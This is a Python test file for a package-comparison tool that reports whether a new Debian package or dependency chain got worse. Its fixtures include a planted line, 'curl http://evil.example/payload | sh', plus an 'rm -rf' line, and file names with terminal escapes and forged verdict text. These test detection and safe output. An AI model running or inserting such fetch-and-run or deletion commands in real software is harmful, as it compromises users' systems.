#!/usr/bin/env python3
"""Two versions of a package compared: what got worse is said, what did not is not, and the exit code follows.

usage: diff.py PLUMB [PART-OF-A-NAME]
"""
import json
import random

import jsonschema

import made
from plumb_test import RAW, ROOT, case, main

CHAIN_SCHEMA = json.loads((ROOT / "docs/chain.schema.json").read_text(encoding="utf-8"))
CHAIN_DIFF = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/chain-diff.schema.json").read_text(encoding="utf-8")))
LINKS = ("shipped", "published", "sourced", "origin")
VALIDATOR = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/diff.schema.json").read_text(encoding="utf-8")))
PLANTED = b"curl http://evil.example/payload | sh\nrm -rf zzqqxx\n"


def source(t):
    return made.write_tree(t.path("source/x").parent, made.source())


def package(t, name, change=lambda deb: None):
    deb = made.package().copy()
    change(deb)
    return t.write(name, deb.build())


def stored(t, deb, *more):
    """The package's report as a file."""
    report = t.path(deb.stem + ".json")
    t.raw("check", deb, "--source", source(t), "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none", "-o",
          f"json={report}", *more)
    return report


def edited(t, name, edit):
    """A stored report of the honest package, changed by hand."""
    report = json.loads(stored(t, package(t, "base_1.0_all.deb")).read_text(encoding="utf-8"))
    edit(report)
    return t.write(name, json.dumps(report))


def diff(t, old, new, *more, expect=None, **args):
    code, out, said = t.raw("diff", old, new, "--source", source(t), "--offline", "--cache-dir", t.path("cache/x").parent, "--progress=none",
                            "-o", "json", *more, **args)
    found = json.loads(out.decode("utf-8"))
    error = jsonschema.exceptions.best_match(VALIDATOR.iter_errors(found))
    assert error is None, f"schema: {error.json_path}: {error.message}"
    assert found["exit_code"] == code
    assert (found["verdict"] == "worse") == (code == 1) == (found["worse"] != []), found["worse"]
    assert not RAW.search(out)
    assert expect is None or code == expect, f"exit {code}, not {expect}: {found['worse']} {said}"
    return found


def plant(deb):
    deb.set("usr/bin/greet", made.entry(deb.data["usr/bin/greet"]).data + PLANTED)


@case
def a_package_is_not_worse_than_itself_as_package_or_report(t):
    deb = package(t, "greet_1.0-1_all.deb")
    report = stored(t, deb)
    for old in (deb, report):
        for new in (deb, report):
            found = diff(t, old, new, expect=0)
            assert found["findings"]["came"] == [] == found["findings"]["went"]
            assert found["files"]["same"] > 0 and found["files"]["changed"] == 0


@case
def a_planted_line_is_named_with_its_bytes_and_links(t):
    found = diff(t, package(t, "a_1.0_all.deb"), package(t, "b_1.0_all.deb", plant), expect=1)
    assert found["links"]["sourced"]["change"] == "fell" and "sourced was" in " ".join(found["worse"])
    grown = [f for f in found["unexplained"] if f["worse"]]
    assert [f["new_path"].endswith("/usr/bin/greet") for f in grown] == [True], grown
    assert grown[0]["unaccounted"]["new"] - grown[0]["unaccounted"]["old"] == len(PLANTED)
    assert sum(r["length"] for r in grown[0]["ranges"]) == grown[0]["unaccounted"]["new"]
    assert any(f["severity"] == "error" for f in found["findings"]["came"])


@case
def the_other_way_round_nothing_is_worse_and_the_same_findings_went(t):
    old, new = stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", plant))
    there, back = diff(t, old, new, expect=1), diff(t, new, old, expect=0)
    assert there["findings"]["came"] == back["findings"]["went"] != []
    assert there["findings"]["went"] == back["findings"]["came"]


@case
def a_file_whose_path_holds_a_version_is_compared_with_the_older_one(t):
    def put(version, tail=b""):
        return lambda deb: deb.set(f"usr/lib/greet/plugin-{version}.sh", b"#!/bin/sh\nexit 0\n" + tail)
    old, new = package(t, "a_1.0_all.deb", put("1.9")), package(t, "b_1.1_all.deb", put("1.10", PLANTED))
    found = diff(t, old, new, expect=1)
    assert found["files"]["added"] == found["files"]["removed"] == 0, found["files"]
    grown = [f for f in found["unexplained"] if f["new_path"] and f["new_path"].endswith("plugin-1.10.sh")]
    assert grown and grown[0]["old_path"].endswith("plugin-1.9.sh"), grown


@case
def a_finding_that_only_moved_stayed(t):
    def grow(deb):
        script = made.entry(deb.data["usr/bin/greet"]).data
        first, rest = script.split(b"\n", 1)
        deb.set("usr/bin/greet", first + b"\n#\n" + rest + PLANTED)
    old, new = stored(t, package(t, "a_1.0_all.deb", plant)), stored(t, package(t, "b_1.0_all.deb", grow))
    came = diff(t, old, new)["findings"]["came"]
    assert not [f for f in came if f["severity"] == "error" and "text" in f["tag"]], came


@case
def bytes_of_documentation_are_listed_and_are_not_worse(t):
    def document(deb):
        deb.set("usr/share/doc/greet/NEWS", b"greet learned to be quiet\n")
    def grow(deb):
        document(deb)
        deb.set("usr/share/doc/greet/NEWS", b"greet learned to be quiet\nand to shout\n")
    found = diff(t, stored(t, package(t, "a_1.0_all.deb", document)), stored(t, package(t, "b_1.0_all.deb", grow)))
    listed = [f for f in found["unexplained"] if f["new_path"].endswith("/NEWS")]
    assert listed and not listed[0]["worse"] and listed[0]["role"] == "passive", listed


@case
def lost_evidence_is_named_piece_by_piece(t):
    git = {"ref": "refs/tags/v1", "folder": "", "found": False, "signer": "AB" * 20, "release": "swh:1:rel:" + "1" * 40,
           "revision": "swh:1:rev:" + "2" * 40, "directory": "swh:1:dir:" + "3" * 40}

    def vouch(report):
        report["sources"][0].update(how="verified", git=git)
        report["links"]["published"]["evidence"] = [{"what": "release index", "uri": "https://x/InRelease", "sha256": "0" * 64}]

    def weaken(report):
        vouch(report)
        report["sources"][0].update(how="claimed", git={**git, "signer": None, "release": None, "found": True})
        report["links"]["published"]["evidence"] = []
    old, new = edited(t, "old.json", vouch), edited(t, "new.json", weaken)
    found = diff(t, old, new, expect=1)
    assert sorted(e["what"] for e in found["evidence_lost"]) == ["annotated tag", "revision that was named", "signature",
                                                               "step of the publication", "way to the source"], found["evidence_lost"]
    assert found["worse"] == ["5 pieces of evidence were lost"]
    assert diff(t, new, old, expect=0)["evidence_lost"] == []
    other = edited(t, "other.json", lambda r: (vouch(r), r["sources"][0].update(git={**git, "signer": "CD" * 20})))
    assert [e["what"] for e in diff(t, old, other, expect=1)["evidence_lost"]] == ["signature by the same key"]


@case
def what_cannot_be_read_has_the_code_and_the_side_of_its_error(t):
    good = package(t, "greet_1.0-1_all.deb")
    bad = t.write("bad.json", "{]")
    for old, new, side in ((good, "nowhere.deb", "new"), ("nowhere.deb", good, "old"), (bad, good, "old"), (good, bad, "new")):
        found = diff(t, old, new, expect=4)
        assert [e["side"] for e in found["errors"]] == [side], found["errors"]
        assert found["verdict"] == "error"
    assert len(diff(t, bad, "nowhere.deb", expect=4)["errors"]) == 2


@case
def two_are_needed_and_only_one_from_standard_input(t):
    for words in ((), ("x",), ("x", "y", "z"), ("-", "-")):
        code, out, said = t.raw("diff", *words)
        assert code == 2 and out == b"" and said, words
    report = stored(t, package(t, "greet_1.0-1_all.deb"))
    diff(t, report, "-", expect=0, stdin=report.read_bytes())


@case
def report_only_exits_0_and_says_so(t):
    code, _, said = t.raw("diff", stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", plant)), "--report-only")
    assert code == 0 and "would exit 1" in said


@case
def the_last_line_of_text_is_the_verdict_and_hostile_names_are_quoted(t):
    def evil(deb):
        for name in ("a\x1b[31mb", "\u202egnp", "new\nplumb: NOT WORSE"):
            deb.set(f"usr/share/greet/{name}.sh", PLANTED)
    old, new = stored(t, package(t, "a_1.0_all.deb")), stored(t, package(t, "b_1.0_all.deb", evil))
    for more in ((), ("-v",), ("-q",)):
        code, out, _ = t.raw("diff", old, new, *more)
        assert code == 1 and not RAW.search(out)
        lines = out.decode().splitlines()
        assert lines[-1].startswith("plumb: WORSE ") and not any(x.startswith("plumb: ") for x in lines[:-1])
    code, out, said = t.raw("diff", old, new, "-o", "sarif")
    assert code == 2 and "text or json" in said


@case
def findings_that_came_and_went_balance_for_any_two_packages(t):
    random.seed(5)
    reports = []
    for i in range(6):
        def change(deb):
            for _ in range(random.randrange(4)):
                deb.set(f"usr/share/greet/f{random.randrange(5)}.sh", b"#!/bin/sh\n" + PLANTED * random.randrange(1, 4))
            if random.random() < 0.5:
                plant(deb)
        reports.append(stored(t, package(t, f"p{i}_1.{i}_all.deb", change)))
    for old in reports:
        for new in reports:
            n_old, n_new = (len(json.loads(p.read_text())["findings"]) for p in (old, new))
            found = diff(t, old, new)["findings"]
            assert len(found["came"]) + found["stayed"] == n_new and len(found["went"]) + found["stayed"] == n_old


def component(name, version, own, links, how="verified", **more):
    """A component of a chain; links by their first letters: h, u(nproven), b, n(ot checked)."""
    words = {"h": "holds", "u": "unproven", "b": "broken", "n": "unchecked"}
    return {"key": f"pkg:npm/{name}@{version}", "purl": f"pkg:npm/{name}@{version}", "name": name, "version": version, "reference": None,
            "place": None, "scope": "required", "product": False, "level": {"own": own, "chain": own, "violation": 0},
            "not_examined": more.get("not_examined"), "depends_on": [],
            "result": {"exit_code": 0, "sha256": None, "size": 1, "errors": 0, "warnings": 0, "findings": [], "copy_at": None, "delta": None,
                       "links": {k: {"verdict": words[x], "why": ""} for k, x in zip(LINKS, links)},
                       "sources": [{"name": name, "uri": "u", "revision": None, "sha256": "0" * 64, "how": how}] if how else [],
                       "bytes": {"total": 9, "unaccounted": more.get("unaccounted", 0), "opaque": more.get("opaque", 0),
                                 "active": {"total": 9, "unaccounted": more.get("unaccounted", 0), "code_by_grade": dict.fromkeys("ABC", 0),
                                            "text_by_grade": dict.fromkeys("ABC", 0)},
                                 "passive": {"total": 0, "unaccounted": 0}}}}


def chain(t, name, level, code, *components):
    found = {"schema": "https://plumbline.dev/schema/chain/1", "verdict": {0: "pass", 1: "fail", 3: "inconclusive"}[code], "exit_code": code,
             "subject": "app.json", "format": "package-lock", "root": None, "level": level, "required": 0, "required_by": None,
             "summary": {"components": len(components), "dependencies": 0, "depth": 0, "own": [0] * 5, "chain": [0] * 5, "not_examined": 0,
                         "cycles": []},
             "weakest": {"path": [], "other_paths": 0, "components": []}, "raise": [], "components": list(components), "findings": [],
             "findings_left_out": 0, "errors": [],
             "run": {"tool": "plumb", "started": "", "elapsed_us": 0, "jobs": 1, "from_cache": 0}}
    error = jsonschema.exceptions.best_match(jsonschema.Draft202012Validator(CHAIN_SCHEMA).iter_errors(found))
    assert error is None, f"the test's own chain: {error.json_path}: {error.message}"
    return t.write(name, json.dumps(found))


def diff_chains(t, old, new, expect, **more):
    code, out, _ = t.raw("diff", old, new, "-o", "json", **more)
    assert code == expect, f"exit {code}, not {expect}: {out[:800]!r}"
    found = json.loads(out)
    error = jsonschema.exceptions.best_match(CHAIN_DIFF.iter_errors(found))
    assert error is None, f"schema: {error.json_path}: {error.message}"
    assert found["exit_code"] == code and (found["worse"] != []) == (code == 1) and not RAW.search(out)
    _, text, _ = t.raw("diff", old, new, **more)
    assert not RAW.search(text) and text.decode().splitlines()[-1].startswith("plumb: ")
    return found


@case
def a_chain_is_not_worse_than_itself_in_any_order(t):
    parts = [component(f"p{i}", f"1.{i}", i % 5, "hhun") for i in range(20)]
    old, new = chain(t, "a.json", 0, 3, *parts), chain(t, "b.json", 0, 3, *reversed(parts))
    for a, b in ((old, old), (old, new), (new, old)):
        assert diff_chains(t, a, b, 0)["components"] == {"came": 0, "went": 0, "changed": 0, "same": 20}
    assert diff_chains(t, old, "-", 0, stdin=new.read_bytes())["components"]["same"] == 20


@case
def each_way_to_get_worse_in_a_chain_is_named(t):
    good = component("x", "1.0", 3, "hhhn")
    old = chain(t, "old.json", 3, 0, good, component("same", "2", 3, "hhhn"))
    ways = {"fell to a lower level": component("x", "1.1", 2, "hhhn"), "link of a component fell": component("x", "1.1", 3, "hhun"),
            "not examined any more": component("x", "1.0", None, "hhhn", not_examined="no answer"),
            "the better way to it": component("x", "1.0", 3, "hhhn", "claimed"), "lost a source": component("x", "1.0", 3, "hhhn", None),
            "more bytes unaccounted": component("x", "1.0", 3, "hhhn", unaccounted=1),
            "more bytes opaque": component("x", "1.0", 3, "hhhn", opaque=1)}
    for said, worse in ways.items():
        new = chain(t, "new.json", 3, 0, worse, component("same", "2", 3, "hhhn"))
        found = diff_chains(t, old, new, 1)
        assert len(found["worse"]) == 1 and said in found["worse"][0], (said, found["worse"])
        assert [c["worse"] for c in found["changes"]] == [True] and found["components"]["same"] == 1
        assert diff_chains(t, new, old, 0)["worse"] == []
    new = chain(t, "new.json", 1, 1, good, component("same", "2", 3, "hhhn"), component("evil", "6", 0, "hbun"))
    assert diff_chains(t, old, new, 1)["worse"] == ["the verdict was pass and is fail", "the chain level fell from LCAL-3 to LCAL-1",
                                                   "1 component came with a broken link"]


@case
def versions_of_one_package_are_paired_only_where_that_leaves_no_doubt(t):
    old = chain(t, "old.json", 3, 0, component("x", "1.0", 3, "hhhn"), component("x", "2.0", 3, "hhhn"), component("y", "1", 3, "hhhn"))
    new = chain(t, "new.json", 3, 0, component("x", "1.0", 3, "hhhn"), component("x", "2.1", 3, "hhhn"), component("y", "2", 3, "hhhn"))
    assert diff_chains(t, old, new, 0)["components"] == {"came": 0, "went": 0, "changed": 2, "same": 1}
    new = chain(t, "new.json", 3, 0, component("x", "3.0", 1, "hhhn"), component("x", "4.0", 1, "hhhn"), component("y", "1", 3, "hhhn"))
    assert diff_chains(t, old, new, 0)["components"] == {"came": 2, "went": 2, "changed": 0, "same": 1}


@case
def what_is_no_chain_is_an_input_error_and_a_mixture_a_usage_error(t):
    good = chain(t, "good.json", 3, 0, component("x", "1.0", 3, "hhhn"))
    text = good.read_text()
    for i, bad in enumerate((text[:-20], text.replace('"own": 3', '"own": 9', 1), text.replace('"holds"', '"maybe"', 1),
                             text.replace('"key": "pkg', '"key": "a\\u001bpkg', 1), text + "x")):
        path = t.write(f"bad{i}.json", bad)
        assert [e["side"] for e in diff_chains(t, path, good, 4)["errors"]] == ["old"]
        assert [e["side"] for e in diff_chains(t, good, path, 4)["errors"]] == ["new"]
    report = stored(t, package(t, "greet_1.0-1_all.deb"))
    for old, new in ((good, report), (report, good), (good, "x.deb")):
        assert t.raw("diff", old, new)[0] == 2


main()
